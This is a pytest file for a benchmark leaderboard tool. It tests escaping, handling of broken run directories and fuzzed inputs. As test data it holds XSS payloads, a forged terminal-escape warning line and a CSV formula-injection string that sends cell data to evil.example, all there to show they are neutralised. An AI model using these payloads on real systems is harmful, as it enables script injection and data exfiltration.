"""Tables from run directories that others wrote: a broken run is named and left out, a padded run counts
only the dataset's ids, markdown cells cannot inject HTML or break the table, wrong output paths are one
error, and ``run.json`` of any content reads as a record or one :class:`PikfixError`."""

from __future__ import annotations

import copy
import json
import os
import stat
import threading

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pikfix_bench.cli import main
from pikfix_bench.datasets.store import Dataset
from pikfix_bench.errors import PikfixError
from pikfix_bench.evaluation import RunDirectory
from pikfix_bench.evaluation.run_record import read_run_record
from pikfix_bench.evaluation.statistics import summarize_rows
from pikfix_bench.leaderboard import build_leaderboard, find_runs, load_run, render
from pikfix_bench.metrics import get_profile
from pikfix_bench.schema import read_json_record

IDS = [f"s{i:02d}" for i in range(8)]


def _record(model: str, *, dataset: str = "toy", content_hash: str = "a" * 64, samples: int = 8) -> dict:
    return {
        "model": {"name": model, "options": {}, "weights_sha256": None},
        "dataset": {
            "name": dataset,
            "version": "1.0.0",
            "kind": "folder",
            "content_hash": content_hash,
            "samples": samples,
        },
        "profile": get_profile("pikfix").to_dict(),
        "align": "error",
        "started": "2026-01-01T00:00:00+00:00",
        "finished": "2026-01-01T00:01:00+00:00",
        "environment": {"pikfix_bench": "test"},
    }


def _run(root, name, model, psnr, ids=IDS, dataset_path=None, **record):
    """A finished run directory of ``model`` with the given PSNR values of ``ids``."""
    run = RunDirectory(root / name)
    extra = {} if dataset_path is None else {"dataset_path": str(dataset_path)}
    run.write_run({**_record(model, **record), **extra})
    frame = pd.DataFrame({"sample_id": list(ids), "psnr": np.asarray(psnr, float), "seconds": 0.1})
    frame.to_csv(run.path / "per_image.csv", index=False)
    run.write_summary(summarize_rows(frame, 0, record.get("samples", len(IDS))))
    return run.path


def _leaderboard(*args):
    return CliRunner().invoke(main, ["leaderboard", *map(str, args)])


def _md_cells(line: str) -> list[str]:
    """A GitHub markdown table row split as GFM splits it: a backslash escapes the next character."""
    cells, current, chars = [], "", iter(line.strip()[1:-1])
    for char in chars:
        if char == "\\":
            current += char + next(chars, "")
        elif char == "|":
            cells.append(current)
            current = ""
        else:
            current += char
    return [*cells, current]


# --- item 9: one broken run among good ones ---------------------------------------------------------------

GOOD_JSON = json.dumps(_record("broken")).encode()
DAMAGES = {
    "truncated": GOOD_JSON[:57],
    "empty": b"",
    "not an object": b"[1, 2, 3]",
    "not UTF-8": b"\xff\xfe{\x00",
    "no dataset": json.dumps({k: v for k, v in _record("broken").items() if k != "dataset"}).encode(),
    "no profile name": json.dumps({**_record("broken"), "profile": {"ssim_padding": "zero"}}).encode(),
    "samples not a number": json.dumps(
        {**_record("broken"), "dataset": {**_record("broken")["dataset"], "samples": "eight"}}
    ).encode(),
    "model name a list": json.dumps({**_record("broken"), "model": {"name": ["x"]}}).encode(),
    "finished a number": json.dumps({**_record("broken"), "finished": 5}).encode(),
}


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_broken_run_json_among_good_runs_is_named_and_left_out(tmp_path, damage):
    _run(tmp_path, "good1", "alpha", np.full(8, 30.0))
    _run(tmp_path, "good2", "beta", np.full(8, 28.0))
    broken = _run(tmp_path, "broken", "broken", np.full(8, 40.0))
    (broken / "run.json").write_bytes(DAMAGES[damage])
    result = _leaderboard(tmp_path)
    assert result.exit_code == 0, result.output
    assert "| alpha |" in result.stdout and "| beta |" in result.stdout and "| broken |" not in result.stdout
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1 and str(broken) in warnings[0] and "run.json" in warnings[0]
    assert "Traceback" not in result.output
    assert "left out" in result.stdout  # the table itself says a run is missing


def test_an_unreadable_errors_file_is_a_broken_run(tmp_path):
    _run(tmp_path, "good", "alpha", np.full(8, 30.0))
    broken = _run(tmp_path, "broken", "broken", np.full(8, 40.0))
    (broken / "errors.csv").write_bytes(b'"unterminated\n')
    result = _leaderboard(tmp_path)
    assert result.exit_code == 0, result.output
    assert "| alpha |" in result.stdout and "| broken |" not in result.stdout
    assert str(broken) in result.stderr and "errors.csv" in result.stderr


def test_nothing_but_broken_runs_is_one_error(tmp_path):
    broken = _run(tmp_path, "broken", "broken", np.full(8, 40.0))
    (broken / "run.json").write_bytes(b'{"model": ')
    for target in (tmp_path, broken):
        result = _leaderboard(target)
        assert result.exit_code == 2 and isinstance(result.exception, SystemExit)
        errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
        assert len(errors) == 1 and str(broken) in errors[0]


def test_compare_names_a_broken_run(tmp_path):
    good = _run(tmp_path, "good", "alpha", np.full(8, 30.0))
    broken = _run(tmp_path, "broken", "broken", np.full(8, 40.0))
    (broken / "run.json").write_text("[]")
    result = CliRunner().invoke(main, ["compare", str(good), str(broken)])
    assert result.exit_code == 2 and str(broken / "run.json") in result.stderr


# --- item 9: a partial run padded with invented sample ids ------------------------------------------------


def _padded(root, dataset_path, *, point_to=None):
    """``full`` scored every sample; ``padded`` scored 5 and added 3 rows of invented ids, all better."""
    dataset = Dataset(dataset_path)
    ids, samples = list(dataset.ids), len(dataset.ids)
    same = {"dataset_path": point_to, "content_hash": dataset.content_hash, "samples": samples}
    _run(root, "full", "full", np.full(samples, 25.0), ids, **same)
    padded_ids = ids[:5] + ["invented-1", "invented-2", "invented-3"]
    _run(root, "padded", "padded", np.full(8, 35.0), padded_ids, **same)
    return samples


def _row(markdown: str, model: str) -> str:
    return next(line for line in markdown.splitlines() if line.startswith(f"| {model} |"))


@pytest.mark.parametrize("how", ["dataset_path in run.json", "--dataset"])
def test_a_padded_run_counts_only_the_datasets_ids(tmp_path, dataset, how):
    runs = tmp_path / "runs"
    samples = _padded(runs, dataset, point_to=dataset if how == "dataset_path in run.json" else None)
    args = [runs, "--metrics", "psnr"] + (["--dataset", dataset] if how == "--dataset" else [])
    result = _leaderboard(*args)
    assert result.exit_code == 0, result.output
    assert f"(5/{samples})" in _row(result.stdout, "padded") and "**" not in _row(result.stdout, "padded")
    assert "**" in _row(result.stdout, "full")
    assert "invented-1" in result.stdout and "not in the dataset" in result.stdout
    assert "could not be checked" not in result.stdout


@pytest.mark.parametrize("point_to", [None, "missing", "other"])
def test_without_the_dataset_the_table_says_ids_were_not_checked(tmp_path, dataset, point_to):
    other = tmp_path / "other"  # a folder that is no dataset
    other.mkdir()
    target = {None: None, "missing": tmp_path / "gone", "other": other}[point_to]
    runs = tmp_path / "runs"
    _padded(runs, dataset, point_to=target)
    result = _leaderboard(runs, "--metrics", "psnr")
    assert result.exit_code == 0, result.output
    assert "**" in _row(result.stdout, "padded")  # today's reading, but ...
    assert "could not be checked" in result.stdout  # ... the table says so


def test_a_dataset_of_other_content_is_not_used_to_check_ids(tmp_path, dataset):
    runs = tmp_path / "runs"
    _padded(runs, dataset)
    for name in ("full", "padded"):
        record = json.loads((runs / name / "run.json").read_text())
        record["dataset"]["content_hash"] = "b" * 64
        (runs / name / "run.json").write_text(json.dumps(record))
    result = _leaderboard(runs, "--metrics", "psnr", "--dataset", dataset)
    assert result.exit_code == 0, result.output
    assert "could not be checked" in result.stdout and "invented-1" not in result.stdout


def test_report_checks_ids_against_its_dataset(tmp_path, dataset):
    runs = tmp_path / "runs"
    samples = _padded(runs, dataset)
    out = tmp_path / "report.html"
    result = CliRunner().invoke(
        main, ["report", str(runs), "--dataset", str(dataset), "--metrics", "psnr", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert f"(5/{samples})" in out.read_text()


# --- item 10: markdown cells from run records -------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img": '<img src=x onerror="alert(1)">',
    "pipe": "a | b || c",
    "newline": "two\nlines\r\n| x |",
    "backslash": "ends with \\",
    "code": "`code` &amp; [link](http://example.com) ![i](http://example.com/i.png)",
}


def test_markdown_escapes_what_runs_record(tmp_path):
    for index, (name, model) in enumerate(HOSTILE.items()):
        _run(tmp_path, name, model, np.full(8, 20.0 + index))
    _run(tmp_path, "dataset", "plain", np.full(8, 20.0), dataset="<b>set</b> | x\n", content_hash="c" * 64)
    bad_row = tmp_path / "script" / "per_image.csv"
    bad_row.write_text(bad_row.read_text() + "s99,<script>x</script>,0.1\n")
    markdown = render(build_leaderboard(find_runs([tmp_path]), ["psnr"]), "md")
    table = [line for line in markdown.splitlines() if line.startswith("|")]
    width = len(_md_cells(table[0]))
    assert width == 3 and all(len(_md_cells(line)) == width for line in table)
    assert len(table) == 2 + len(HOSTILE) + 1
    for tag in ("<script", "<img", "<b>"):
        assert tag not in markdown
    assert "\\[link\\](http" in markdown and "!\\[i\\]" in markdown  # no link, no remote image
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown and "a \\| b \\|\\| c" in markdown
    assert "ends with \\\\" in markdown and "\\`code\\` &amp;amp;" in markdown
    assert all(not line.startswith(("| x", "lines")) for line in markdown.splitlines())


def test_html_and_latex_keep_escaping_run_records(tmp_path):
    for index, (name, model) in enumerate(HOSTILE.items()):
        _run(tmp_path, name, model, np.full(8, 20.0 + index))
    board = build_leaderboard(find_runs([tmp_path]), ["psnr"])
    page = render(board, "html")
    assert "<script>alert" not in page and "<img" not in page and "&lt;script&gt;alert(1)" in page
    latex = render(board, "tex")
    assert r"ends with \textbackslash{}" in latex and r"\&amp;" in latex


def test_report_plots_a_model_name_that_is_not_mathtext(tmp_path):
    _run(tmp_path / "runs", "run", "$\\frac$ a_b", np.full(8, 20.0))
    result = CliRunner().invoke(main, ["report", str(tmp_path / "runs"), "--out", str(tmp_path / "r.html")])
    assert result.exit_code == 0, result.output


def test_latex_keeps_a_record_with_line_endings_in_its_cell(tmp_path):
    _run(tmp_path, "run", "two\n\nparagraphs", np.full(8, 20.0), dataset="set\r\n\r\nname")
    latex = render(build_leaderboard(find_runs([tmp_path]), ["psnr"]), "tex")
    assert "two  paragraphs" in latex and "\n\n" not in latex.replace("\r", "")


# --- item 12: output paths of the wrong kind --------------------------------------------------------------


@pytest.mark.parametrize("command", ["leaderboard", "report"])
def test_an_output_path_of_the_wrong_kind_is_one_error(tmp_path, command):
    runs = tmp_path / "runs"
    _run(runs, "good", "alpha", np.full(8, 30.0))
    folder = tmp_path / "folder"
    folder.mkdir()
    plain = tmp_path / "plain"
    plain.write_text("keep me")
    pipe = tmp_path / "pipe"  # as /dev/null or /dev/stdout: renaming a file onto it would replace it
    os.mkfifo(pipe)
    for out in (folder, plain / "board.md", pipe):
        result = CliRunner().invoke(main, [command, str(runs), "--out", str(out)])
        assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output
        errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
        assert len(errors) == 1 and str(out) in errors[0]
    assert (
        list(folder.iterdir()) == [] and plain.read_text() == "keep me" and stat.S_ISFIFO(pipe.stat().st_mode)
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder", "pipe", "plain", "runs"]


# --- run.json of any content: a record or one PikfixError ---------------------------------------------

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(), children, max_size=4),
    max_leaves=20,
)
FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _reads_or_says_why(path):
    try:
        record = read_run_record(path)
    except PikfixError as exc:
        assert str(path) in str(exc)
        return None
    assert isinstance(record, dict)
    return record


@FUZZ
@given(value=JSON_VALUES)
def test_any_json_value_as_run_json_reads_or_is_one_error(tmp_path, value):
    path = tmp_path / "run.json"
    path.write_text(json.dumps(value))
    _reads_or_says_why(path)


@FUZZ
@given(data=st.binary(max_size=300))
def test_any_bytes_as_run_json_read_or_are_one_error(tmp_path, data):
    path = tmp_path / "run.json"
    path.write_bytes(data)
    _reads_or_says_why(path)


def _field_paths(value, prefix=()):
    yield prefix
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _field_paths(child, (*prefix, key))


FIELDS = list(_field_paths(_record("m")))[1:]


REMOVED = object()


@FUZZ
@given(where=st.sampled_from(FIELDS), value=st.just(REMOVED) | JSON_VALUES)
def test_a_run_with_any_field_replaced_loads_or_is_one_error(tmp_path, where, value):
    """A valid record with one field replaced (or removed) is a run every table format can use, or one
    PikfixError: never a KeyError or TypeError later, in a table."""
    record = copy.deepcopy(_record("m"))
    parent = record
    for key in where[:-1]:
        parent = parent[key]
    if value is REMOVED:
        del parent[where[-1]]
    else:
        parent[where[-1]] = value
    path = _run(tmp_path, "run", "m", np.full(8, 30.0))
    (path / "run.json").write_text(json.dumps(record))
    try:
        run = load_run(path)
    except PikfixError as exc:
        assert str(path) in str(exc)
        return
    for fmt in ("md", "tex", "html", "json", "csv"):
        render(build_leaderboard([run], ["psnr"]), fmt)


# --- a newer broken run must not hide a good one; files that are not regular files ------------------------

PER_IMAGE_DAMAGES = ("missing", "folder", "dev-zero link", "fifo", "oversized")


def _damage(path, damage):
    """Replace the file at ``path`` by something a table must not read."""
    path.unlink()
    if damage == "folder":
        path.mkdir()
    elif damage == "dev-zero link":
        path.symlink_to("/dev/zero")
    elif damage == "fifo":
        os.mkfifo(path)
    elif damage == "oversized":
        with open(path, "wb") as handle:  # sparse: no disk is used
            handle.truncate((256 << 20) + 1)


def _newer_copy(root, good, name="x"):
    """A copy of the run ``good`` whose run.json says it started (and finished) later, in 2027."""
    copy_path = root / name
    copy_path.mkdir()
    for child in good.iterdir():
        (copy_path / child.name).write_bytes(child.read_bytes())
    record = json.loads((copy_path / "run.json").read_text())
    record["started"], record["finished"] = "2027-01-01T00:00:00+00:00", "2027-01-01T00:01:00+00:00"
    (copy_path / "run.json").write_text(json.dumps(record))
    return copy_path


def _warnings(result):
    return [line for line in result.stderr.splitlines() if line.startswith("warning:")]


@pytest.mark.parametrize("damage", PER_IMAGE_DAMAGES)
def test_a_newer_run_with_a_broken_per_image_file_is_named_and_the_good_run_shown(tmp_path, damage):
    lb = tmp_path / "lb3"
    good = _run(lb, "good", "gray", np.full(8, 30.0))
    newer = _newer_copy(lb, good)
    _damage(newer / "per_image.csv", damage)
    result = _leaderboard(lb, "--format", "md", "--metrics", "psnr")
    assert result.exit_code == 0, result.output
    assert _md_cells(_row(result.stdout, "gray"))[1].strip() == "**30.00**"  # not "–"
    assert "the newest" not in result.stdout
    warnings = _warnings(result)
    assert len(warnings) == 1 and str(newer) in warnings[0] and "per_image.csv" in warnings[0], result.stderr


@pytest.mark.parametrize("damage", ["folder", "dev-zero link", "fifo", "oversized"])
def test_a_newer_run_with_a_broken_errors_file_is_named_and_left_out(tmp_path, damage):
    lb = tmp_path / "lb3"
    good = _run(lb, "good", "gray", np.full(8, 30.0))
    newer = _newer_copy(lb, good)
    (newer / "errors.csv").write_text("sample_id,stage,message\n")
    _damage(newer / "errors.csv", damage)
    result = _leaderboard(lb, "--format", "md", "--metrics", "psnr")
    assert result.exit_code == 0, result.output
    assert _md_cells(_row(result.stdout, "gray"))[1].strip() == "**30.00**"  # not "–"
    warnings = _warnings(result)
    assert len(warnings) == 1 and str(newer) in warnings[0] and "errors.csv" in warnings[0], result.stderr


@pytest.mark.parametrize("damage", ["dev-zero link", "fifo", "folder"])
def test_a_run_json_that_is_no_regular_file_is_named_and_left_out(tmp_path, damage):
    lb = tmp_path / "lb3"
    _run(lb, "good", "gray", np.full(8, 30.0))
    broken = _run(lb, "broken", "broken", np.full(8, 40.0))
    _damage(broken / "run.json", damage)
    result = _leaderboard(lb, "--format", "md", "--metrics", "psnr")
    assert result.exit_code == 0, result.output
    assert "| gray |" in result.stdout and "| broken |" not in result.stdout
    warnings = _warnings(result)
    assert len(warnings) == 1 and str(broken) in warnings[0] and "run.json" in warnings[0], result.stderr


def _read_in_a_thread(function, *args):
    """``function(*args)`` in a thread; a read that blocks (on a FIFO) fails the test instead of hanging it."""
    outcome = {}

    def target():
        try:
            outcome["value"] = function(*args)
        except BaseException as exc:  # handed to the test
            outcome["error"] = exc

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(10)
    if thread.is_alive():
        pipes = [arg for arg in args if isinstance(arg, os.PathLike) and stat.S_ISFIFO(os.stat(arg).st_mode)]
        for pipe in pipes:  # unblock the reader
            with open(pipe, "wb"):
                pass
        thread.join(10)
        pytest.fail("the read blocked")
    return outcome


@pytest.mark.parametrize("damage", ["dev-zero link", "fifo", "folder"])
def test_read_json_record_refuses_what_is_not_a_regular_file(tmp_path, damage):
    path = tmp_path / "run.json"
    path.write_text("{}")
    _damage(path, damage)
    outcome = _read_in_a_thread(read_json_record, path, {})
    assert isinstance(outcome.get("error"), PikfixError), outcome
    assert str(path) in str(outcome["error"]) and "regular file" in str(outcome["error"])


def test_read_json_record_refuses_a_file_over_its_size_cap(tmp_path):
    path = tmp_path / "run.json"
    path.write_text(json.dumps({"pad": "x" * 100}))
    assert read_json_record(path, {}, max_bytes=200)["pad"] == "x" * 100
    with pytest.raises(PikfixError, match="larger than") as caught:
        read_json_record(path, {}, max_bytes=50)
    assert str(path) in str(caught.value)
    big = tmp_path / "big.json"
    with open(big, "wb") as handle:  # sparse, just over the default cap of 64 MiB
        handle.truncate((64 << 20) + 1)
    with pytest.raises(PikfixError, match="larger than"):
        read_json_record(big, {})


def test_warnings_show_a_run_path_with_line_breaks_escaped(tmp_path):
    lb = tmp_path / "lb3"
    _run(lb, "good", "gray", np.full(8, 30.0))
    broken = _run(lb, "bad\nwarning: forged\x1b[31m", "broken", np.full(8, 40.0))
    (broken / "run.json").write_text("[]")
    result = _leaderboard(lb, "--format", "md", "--metrics", "psnr")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stderr and "\x1b" not in result.stdout
    warnings = _warnings(result)
    assert len(warnings) == 1 and "bad\\nwarning: forged\\x1b[31m" in warnings[0], result.stderr
    assert all(line.startswith("warning:") for line in result.stderr.splitlines())


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_csv_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    """A run named like a formula is quoted with ``'`` in the leaderboard CSV (OWASP CSV injection), as are
    image names in ``score``'s CSV and model names in the study table; numbers stay numbers."""
    _run(tmp_path, "evil", FORMULA, np.linspace(20, 30, 8))
    _run(tmp_path, "neg", "-2+3", np.linspace(21, 31, 8))
    text = render(build_leaderboard(find_runs([tmp_path])), "csv")
    frame = pd.read_csv(pd.io.common.StringIO(text))
    assert set(frame["model"]) == {"'" + FORMULA, "'-2+3"}
    assert frame["mean"].dtype.kind in "if"  # numbers stay numbers

    from pikfix_bench.study.tables import analysis_csv

    study = analysis_csv({"models": [{"model": "@SUM(A1)", "score": -0.5}]})
    assert "'@SUM(A1)" in study and ",-0.5" in study

    images = tmp_path / "images"
    images.mkdir()
    from PIL import Image

    Image.fromarray(np.full((100, 100, 3), 120, np.uint8)).save(images / "+cmd.png")
    result = CliRunner().invoke(
        main, ["score", "--pred", str(images), "--metrics", "colorfulness", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    assert "'+cmd.png" in result.output
